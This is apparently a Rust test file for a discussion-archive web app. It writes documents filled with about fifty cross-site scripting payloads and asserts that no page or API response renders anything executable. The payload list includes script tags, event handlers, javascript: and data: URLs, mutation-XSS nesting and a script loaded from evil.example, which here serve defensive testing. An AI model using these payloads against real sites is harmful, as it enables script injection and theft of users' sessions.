//! Hostile content: documents whose every field carries HTML and script
//! payloads. Whatever page or API shows them, nothing comes out executable.

use std::path::Path;

use scraper::{Html, node::Node};

use super::{Reply, app_over, get};

/// Payloads that try to run script, load from elsewhere or break out of
/// their context. Each sets `window.__pwned` if it ever runs.
pub const PAYLOADS: &[&str] = &[
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.__pwned=1>",
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<iframe src=\"javascript:window.__pwned=1\"></iframe>",
    "<body onload=window.__pwned=1>",
    "<a href=\"javascript:window.__pwned=1\">click</a>",
    "[click](javascript:window.__pwned=1)",
    "[click](JaVaScRiPt:window.__pwned=1)",
    "[click](  javascript:window.__pwned=1)",
    "[click](java&#09;script:window.__pwned=1)",
    "[click](&#106;avascript:window.__pwned=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "[click](vbscript:msgbox(1))",
    "![img](javascript:window.__pwned=1)",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:window.__pwned=1>",
    "<a href=x onmouseover=window.__pwned=1>hover</a>",
    "\"><script>window.__pwned=1</script>",
    "'><img src=x onerror=window.__pwned=1>",
    "</textarea><script>window.__pwned=1</script>",
    "</title><script>window.__pwned=1</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>",
    "<object data=\"javascript:window.__pwned=1\"></object>",
    "<embed src=\"javascript:window.__pwned=1\">",
    "<base href=\"javascript://\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__pwned=1\">",
    "<link rel=stylesheet href=javascript:window.__pwned=1>",
    "<style>@import 'javascript:window.__pwned=1';</style>",
    "<div style=\"background:url(javascript:window.__pwned=1)\">x</div>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "<form action=javascript:window.__pwned=1><button>go</button></form>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<video><source onerror=window.__pwned=1></video>",
    "<marquee onstart=window.__pwned=1>",
    "[link](http://example.com\" onclick=\"window.__pwned=1)",
    "[link](<javascript:window.__pwned=1>)",
    "[ref]\n\n[ref]: javascript:window.__pwned=1",
    "`<script>window.__pwned=1</script>`",
    "    <script>window.__pwned=1</script>",
    "<!--<script>window.__pwned=1</script>-->",
    "<![CDATA[<script>window.__pwned=1</script>]]>",
    "<?xml-stylesheet href=\"javascript:window.__pwned=1\"?>",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "\u{202e}gnp.exe \u{200b}zero-width",
    "<a href=\"&#x6A;avascript:window.__pwned=1\">entity</a>",
];

/// Payloads without white space, usable as author and source names.
const NAMES: &[&str] = &[
    "<script>window.__pwned=1</script>",
    "<img/src=x/onerror=window.__pwned=1>",
    "\"><svg/onload=window.__pwned=1>",
    "javascript:window.__pwned=1",
    "'onmouseover='window.__pwned=1",
];

/// Writes one document per payload into `dir`: the payload in the title,
/// byline, author names and bodies.
pub fn write_hostile_archive(dir: &Path) {
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let name = NAMES[i % NAMES.len()];
        let first_line = payload.lines().next().unwrap_or_default();
        let text = format!(
            "Payload {i}: {first_line}\n\n\
             Authored by {name} and submitted by {name}\n\n\
             Article: {payload}\n\n\
             {name} on May 1st, 2024 at 10:{m:02} UTC »\n\n\
             {payload}\n\n\
             \x20   replier on May 1st, 2024 at 11:{m:02} UTC »\n\n\
             \x20   > {payload}\n\n\
             \x20   pwned later\n",
            m = i % 60
        );
        std::fs::write(dir.join(format!("hostile-{i:02}.txt")), text).unwrap();
    }
}

/// Where a checked page comes from.
#[derive(Clone, Copy, PartialEq)]
pub enum Site {
    /// The server: links are paths on it.
    Server,
    /// An export: links are relative paths, and the page carries its own
    /// policy.
    Export,
}

fn is_safe_url(value: &str, site: Site) -> bool {
    let cleaned: String = value
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    match cleaned.find(':') {
        // A scheme: only the web's and mail's.
        Some(colon) if !cleaned[..colon].contains('/') && !cleaned[..colon].contains('?') => {
            ["http", "https", "mailto"].contains(&&cleaned[..colon])
        }
        // A path on this server.
        _ if site == Site::Server => {
            cleaned.starts_with('/') || cleaned.starts_with('#') || cleaned.starts_with('?')
        }
        // A file of the export.
        _ => !cleaned.starts_with("//"),
    }
}

/// Panics when the page holds anything a browser would run or load from
/// elsewhere: scripts but our own, event handlers, dangerous URLs, frames,
/// objects, styles, `<base>`, refreshes.
#[track_caller]
pub fn assert_inert(uri: &str, reply: &Reply) {
    assert!(reply.status.is_success(), "{uri}: {}", reply.status);
    assert_inert_html(uri, &reply.body, Site::Server);
}

/// The same for a page's HTML from `site`.
#[track_caller]
pub fn assert_inert_html(uri: &str, html: &str, site: Site) {
    let asset = |src: &str, name: &str| match site {
        Site::Server => src.starts_with(&format!("/static/{name}?v=")),
        Site::Export => {
            let file = src.trim_start_matches("../");
            file.starts_with(&format!("assets/{}.", name.split('.').next().unwrap()))
                && !file.contains("..")
        }
    };
    let document = Html::parse_document(html);
    for node in document.tree.nodes() {
        let Node::Element(element) = node.value() else {
            continue;
        };
        let tag = element.name();
        match tag {
            "script" => {
                let src = element.attr("src").unwrap_or_default();
                assert!(asset(src, "app.js"), "{uri}: a script {src:?}");
                assert!(node.children().next().is_none(), "{uri}: an inline script");
            }
            "iframe" | "frame" | "object" | "embed" | "applet" | "base" | "style" | "img"
            | "video" | "audio" | "source" | "math" | "input" | "textarea" | "marquee" => {
                if tag == "input"
                    && element
                        .attr("type")
                        .is_some_and(|t| t == "search" || t == "hidden")
                {
                    continue;
                }
                panic!("{uri}: a <{tag}> element came through");
            }
            "meta" => match element.attr("http-equiv") {
                None => {}
                Some("Content-Security-Policy") if site == Site::Export => {
                    let policy = element.attr("content").unwrap_or_default();
                    assert!(
                        policy.contains("script-src 'self'") && !policy.contains("unsafe-inline"),
                        "{uri}: {policy}"
                    );
                }
                Some(other) => panic!("{uri}: <meta http-equiv={other:?}>"),
            },
            "link" => {
                let href = element.attr("href").unwrap_or_default();
                // Our assets, or this site's neighbouring pages.
                let paging = matches!(element.attr("rel"), Some("prev" | "next"))
                    && is_safe_url(href, site)
                    && !href.contains(':');
                assert!(
                    asset(href, "style.css") || asset(href, "favicon.svg") || paging,
                    "{uri}: <link href={href:?}>"
                );
            }
            "form" if element.attr("method") == Some("dialog") => {}
            "form" => {
                let action = element.attr("action").unwrap_or_default();
                assert!(
                    is_safe_url(action, site) && !action.contains(':'),
                    "{uri}: <form action={action:?}>"
                );
            }
            "svg" => assert_eq!(
                element.attr("role"),
                Some("group"),
                "{uri}: a foreign <svg>"
            ),
            _ => {}
        }
        for (name, value) in element.attrs() {
            assert!(
                !name.to_ascii_lowercase().starts_with("on"),
                "{uri}: <{tag} {name}={value:?}>"
            );
            assert_ne!(name, "style", "{uri}: a style attribute");
            if [
                "href",
                "src",
                "action",
                "formaction",
                "xlink:href",
                "data",
                "poster",
            ]
            .contains(&name)
            {
                assert!(is_safe_url(value, site), "{uri}: <{tag} {name}={value:?}>");
            }
        }
    }
}

#[tokio::test]
async fn no_payload_comes_out_executable_on_any_page_or_api() {
    assert!(PAYLOADS.len() >= 40);
    let dir = tempfile::tempdir().unwrap();
    write_hostile_archive(dir.path());
    let app = app_over(dir.path());

    let mut uris: Vec<String> = vec![
        "/".into(),
        "/?sort=title".into(),
        "/authors".into(),
        "/authors?sort=name".into(),
        "/search?q=pwned".into(),
        "/search?q=%3Cscript%3E".into(),
        "/diagnostics".into(),
    ];
    for name in NAMES {
        let encoded: String = form_urlencoded::byte_serialize(name.as_bytes()).collect();
        uris.push(format!("/authors/{}", encoded.replace('+', "%20")));
    }
    let api = get(&app, "/api/discussions").await.json();
    for d in api.as_array().unwrap() {
        let id = d["id"].as_str().unwrap();
        for view in ["", "?view=timeline", "?sort=author", "?q=pwned", "?depth=0"] {
            uris.push(format!("/d/{id}{view}"));
        }
        let detail = get(&app, &format!("/api/discussions/{id}")).await.json();
        for c in detail["comments"].as_array().unwrap() {
            uris.push(format!("/d/{id}/c/{}", c["id"].as_str().unwrap()));
        }
    }
    for uri in &uris {
        let reply = get(&app, uri).await;
        assert_inert(uri, &reply);
        let csp = reply.headers["content-security-policy"].to_str().unwrap();
        assert!(
            csp.contains("script-src 'self'") && !csp.contains("unsafe-inline"),
            "{uri}"
        );
        assert!(csp.contains("frame-ancestors 'none'"));
        assert_eq!(reply.headers["x-content-type-options"], "nosniff");
        assert_eq!(reply.headers["referrer-policy"], "no-referrer");
    }
    assert!(uris.len() > 300, "{} pages checked", uris.len());

    // The API carries the payloads as JSON strings, never as HTML.
    for uri in [
        "/api/discussions",
        "/api/authors",
        "/api/search?q=pwned",
        "/api/discussions/hostile-00",
    ] {
        let reply = get(&app, uri).await;
        assert!(
            reply.content_type().starts_with("application/json"),
            "{uri}"
        );
        assert_eq!(reply.headers["x-content-type-options"], "nosniff");
        assert!(
            reply.body.contains("__pwned"),
            "{uri}: the payloads are kept, as text"
        );
    }
}

#[test]
fn the_checker_catches_what_it_is_for() {
    // The check above would fail on each of these.
    let bad = [
        "<p><script>x()</script></p>",
        "<p><a href=\"javascript:x()\">a</a></p>",
        "<p><a href=\" JAVA\tSCRIPT:x()\">a</a></p>",
        "<p><img src=x></p>",
        "<p onclick=\"x()\">a</p>",
        "<p><a href=\"data:text/html,x\">a</a></p>",
        "<p><iframe></iframe></p>",
        "<p style=\"color:red\">a</p>",
    ];
    for html in bad {
        let reply = Reply {
            status: axum::http::StatusCode::OK,
            headers: Default::default(),
            body: html.to_owned(),
        };
        let caught = std::panic::catch_unwind(|| assert_inert("test", &reply)).is_err();
        assert!(caught, "{html} passed the check");
    }
}
